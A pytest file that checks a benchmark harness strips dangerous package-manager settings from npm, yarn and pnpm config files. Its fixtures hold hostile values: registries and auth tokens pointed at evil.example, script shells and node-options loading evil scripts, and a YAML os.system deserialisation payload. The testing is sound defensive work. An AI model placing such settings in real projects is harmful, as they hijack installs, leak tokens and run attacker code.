"""A subject's own configuration of package managers cannot run or redirect anything."""

from __future__ import annotations

from pathlib import Path

import yaml

from pytest_uibench.subject.neutral import neutralise

HOSTILE_NPMRC = """\
; a comment
registry=https://evil.example/
@acme:registry = https://evil.example/
//evil.example/:_authToken=${NPM_TOKEN}
ignore-scripts = false
script-shell=./evil.sh
SCRIPT_SHELL=./evil.sh
node-options="--require ./evil.js"
git = ./evil.sh
prefix=/tmp/x
cache=/tmp/x
globalconfig=./evil
userconfig=./evil
legacy-peer-deps=true
node-linker = hoisted
public-hoist-pattern[]=*types*
audit=false
engine-strict=${EVIL}
[section]
ca[]="x"
shell
"""


def files(root: Path) -> frozenset[str]:
    return frozenset(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def test_npmrc_keeps_what_shapes_the_tree(tmp_path: Path) -> None:
    (tmp_path / ".npmrc").write_text(HOSTILE_NPMRC)
    (note,) = neutralise(tmp_path, files(tmp_path))
    assert (tmp_path / ".npmrc").read_text().splitlines() == [
        "legacy-peer-deps=true", "node-linker = hoisted", "public-hoist-pattern[]=*types*",
    ]  # fmt: skip
    for name in (
        "registry",
        "ignore-scripts",
        "script-shell",
        "node-options",
        "git",
        "prefix",
        "cache",
        "globalconfig",
        "userconfig",
    ):
        assert name in note
    assert "audit" not in note
    assert "evil" not in note


def test_token_values_are_not_repeated(tmp_path: Path) -> None:
    (tmp_path / ".npmrc").write_text("//registry.example/:_authToken=npm_hunter2\n_auth=hunter2\n")
    (note,) = neutralise(tmp_path, files(tmp_path))
    assert "hunter2" not in note
    assert "_authToken" in note


def test_files_in_every_folder_are_found(tmp_path: Path) -> None:
    for name in (".npmrc", "packages/a/.npmrc", "packages/a/bunfig.toml", ".pnpmfile.cjs", ".yarnrc"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("registry=https://evil.example/\n")
    notes = neutralise(tmp_path, files(tmp_path))
    assert len(notes) == 5
    assert files(tmp_path) == {".npmrc", "packages/a/.npmrc"}
    assert (tmp_path / "packages/a/.npmrc").read_text() == ""


def test_yarn_and_pnpm_settings(tmp_path: Path) -> None:
    (tmp_path / ".yarnrc.yml").write_text(
        "yarnPath: .yarn/releases/evil.cjs\nplugins: [{path: ./evil.cjs}]\nnodeLinker: pnp\nnmHoistingLimits: none\n"
        "npmRegistryServer: https://evil.example\nunsafeHttpWhitelist: ['*']\nenableScripts: true\n"
    )
    (tmp_path / "pnpm-workspace.yaml").write_text(
        "packages: ['packages/*']\npnpmfilePath: ./evil.cjs\nconfigDependencies: {evil: 1.0.0}\nscriptShell: ./evil\n"
        "overrides: {a: 1.0.0}\ndangerouslyAllowAllBuilds: true\n"
    )
    notes = neutralise(tmp_path, files(tmp_path))
    assert yaml.safe_load((tmp_path / ".yarnrc.yml").read_text()) == {"nmHoistingLimits": "none"}
    assert yaml.safe_load((tmp_path / "pnpm-workspace.yaml").read_text()) == {
        "packages": ["packages/*"], "overrides": {"a": "1.0.0"},
    }  # fmt: skip
    assert "yarnPath" in notes[0]
    assert "plugins" in notes[0]
    assert all(
        name in notes[1] for name in ("pnpmfilePath", "configDependencies", "scriptShell", "dangerouslyAllowAllBuilds")
    )


def test_broken_and_hostile_yaml_is_removed(tmp_path: Path) -> None:
    for number, text in enumerate(("a: [", "!!python/object/apply:os.system ['true']", "- list", "[" * 5000, "\0")):
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / ".yarnrc.yml").write_text(text)
    neutralise(tmp_path, files(tmp_path))
    assert files(tmp_path) == frozenset()


def test_subject_without_such_files_gives_no_notes(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text("{}")
    assert neutralise(tmp_path, files(tmp_path)) == ()


def test_links_under_such_names_are_removed(tmp_path: Path) -> None:
    (tmp_path / "hidden").write_text("script-shell=./evil.sh\n")
    (tmp_path / ".npmrc").symlink_to("hidden")
    (note,) = neutralise(tmp_path, frozenset({"hidden"}), frozenset({".npmrc"}))
    assert ".npmrc" in note
    assert not (tmp_path / ".npmrc").is_symlink()
    assert (tmp_path / "hidden").read_text() == "script-shell=./evil.sh\n"
